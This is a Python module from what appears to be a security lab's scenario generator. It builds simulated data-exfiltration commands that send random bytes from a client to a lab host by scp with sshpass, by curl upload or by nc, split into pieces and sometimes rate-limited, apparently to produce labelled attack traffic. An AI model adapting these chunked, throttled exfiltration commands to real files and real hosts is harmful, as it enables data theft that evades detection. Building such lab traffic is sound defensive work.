# SPDX-License-Identifier: Apache-2.0
"""Data carried out: at once or in pieces, by scp, curl or nc, from a client to a far end."""

from __future__ import annotations

from random import Random

from lab import accounts
from lab.scenarios.attack.targets import far_end, ip_version
from lab.scenarios.scenario import TCP, Attack, AttackDraft, Scene, bracketed
from lab.services import sink


def _pieces(scene: Scene, chance: Random) -> tuple[list[int], float, str]:
    """Sizes, the pause between two, and words for both."""
    total = (
        chance.randint(300_000, 1_500_000) if scene.gentle else min(int(chance.lognormvariate(14.2, 0.7)), 8_000_000)
    )
    count = chance.choice((1, 1, 2, 5, 12))
    pause = chance.choice((0.2, 1.0, 3.0))
    return [max(total // count, 20_000)] * count, pause, f"bytes={total}; pieces={count}; pause={pause}s"


def by_scp(scene: Scene, chance: Random) -> AttackDraft | None:
    end = far_end(scene, chance, "sshd")
    if end is None:
        return None
    sizes, pause, technique = _pieces(scene, chance)
    version, port = ip_version(chance), scene.network.ssh_port
    user, password = accounts.PEOPLE[5]
    there = f"{user}@{bracketed(scene.address(end, version))}:x"
    lines = [
        f"head -c {size} /dev/urandom > /tmp/loot$$; sshpass -p '{password}' scp -q -P {port} /tmp/loot$$ {there}; sleep {pause}"
        for size in sizes
    ]
    return AttackDraft("exfiltration", "scp", technique, "\n".join(lines), 75, (scene.leg(end, version, TCP, port),))


def by_curl(scene: Scene, chance: Random) -> AttackDraft | None:
    end = far_end(scene, chance, "webapp")
    if end is None:
        return None
    sizes, pause, technique = _pieces(scene, chance)
    tls, version = chance.random() < 0.6, ip_version(chance)
    port = scene.network.tls_port if tls else scene.network.web_port
    rate = f"--limit-rate {chance.choice((40, 150, 600))}k" if chance.random() < 0.5 else ""
    url = scene.url(end, tls, "/app/upload", version)
    lines = [
        f"head -c {size} /dev/urandom | curl -g -k -s -o /dev/null {rate} --max-time 50 -T - '{url}'; sleep {pause}"
        for size in sizes
    ]
    return AttackDraft("exfiltration", "curl", technique, "\n".join(lines), 75, (scene.leg(end, version, TCP, port),))


def by_nc(scene: Scene, chance: Random) -> AttackDraft | None:
    end = far_end(scene, chance, "sink")
    if end is None:
        return None
    sizes, pause, technique = _pieces(scene, chance)
    version, port = ip_version(chance), chance.choice(sink.PORTS)
    lines = [
        f"head -c {size} /dev/urandom | nc -N -w 10 {scene.address(end, version)} {port}; sleep {pause}"
        for size in sizes
    ]
    return AttackDraft("exfiltration", "nc", technique, "\n".join(lines), 75, (scene.leg(end, version, TCP, port),))


ATTACKS = (
    Attack("exfiltrate-scp", by_scp, inside=True, weight=2),
    Attack("exfiltrate-curl", by_curl, inside=True, weight=3),
    Attack("exfiltrate-nc", by_nc, inside=True, weight=2),
)
